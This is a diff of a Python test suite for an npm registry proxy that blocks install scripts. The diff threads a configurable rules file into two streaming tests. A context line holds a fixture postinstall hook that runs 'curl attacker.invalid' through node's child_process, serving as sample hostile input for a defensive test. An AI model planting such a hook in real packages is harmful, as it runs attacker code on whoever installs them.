@@ -50,6 +50,10 @@ from tests.servers.verdaccio import Verdaccio
 
 INJECTED = {"postinstall": "node -e \"require('child_process').exec('curl attacker.invalid')\""}
 RULES = "[install_scripts]\nblock = true\n"
+STREAMED = "[deny]\npackages = []\n"
+"""For the streaming cases: with the install-scripts rule on, a tarball of at most 16 MiB is
+withheld until the scan's verdict (docs/serving.md#a-refusal-from-the-bytes), so nothing
+would stream to hang up on or to cut."""
 KEY_OLD = "k1-" + "a" * 40
 KEY_NEW = "k2-" + "b" * 40
 KEY_FOREIGN = "k3-" + "c" * 40
@@ -73,9 +77,10 @@ async def send_raw(queue_backend: str, env: Mapping[str, str], request: pytest.F
 
 
 def pod_environment(public: FixtureRegistry, verdaccio: Verdaccio, gate: PublishGate,
-                    queue: Mapping[str, str], tmp_path: Path) -> dict[str, str]:
+                    queue: Mapping[str, str], tmp_path: Path,
+                    rules_text: str = RULES) -> dict[str, str]:
     rules = tmp_path / "rules.toml"
-    rules.write_text(RULES, encoding="utf-8")
+    rules.write_text(rules_text, encoding="utf-8")
     return {**registry_environment(public, verdaccio, gate), **queue,
             "MIRRORGATE_RULES_FILE": str(rules)}
 
@@ -197,7 +202,7 @@ def test_a_client_that_hangs_up_after_the_headers_causes_no_job(
     public_registry.fault(tarball_path("hung-up", "1.0.0"),
                           Fault(chunk_size=4096, chunk_delay=0.05))
     pod = start_sidecar(mirrorgate, pod_environment(public_registry, verdaccio, gate,
-                                                     queue_environment, tmp_path))
+                                                     queue_environment, tmp_path, STREAMED))
     address = urlsplit(pod.proxy.url)
     connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=10)
     connection.request("GET", "/npm" + tarball_path("hung-up", "1.0.0"))
@@ -224,7 +229,7 @@ def test_a_tampering_public_upstream_is_cut_before_the_last_chunk_and_npm_fails(
     public_registry.add(package)
     public_registry.fault(tarball_path("swapped", "1.0.0"), Fault(body=evil, chunk_size=65536))
     pod = start_sidecar(mirrorgate, pod_environment(public_registry, verdaccio, gate,
-                                                     queue_environment, tmp_path))
+                                                     queue_environment, tmp_path, STREAMED))
 
     seen = fetch(pod.proxy.registry_url.rstrip("/") + tarball_path("swapped", "1.0.0"))
     npm_client.write_project({"swapped": "1.0.0"})
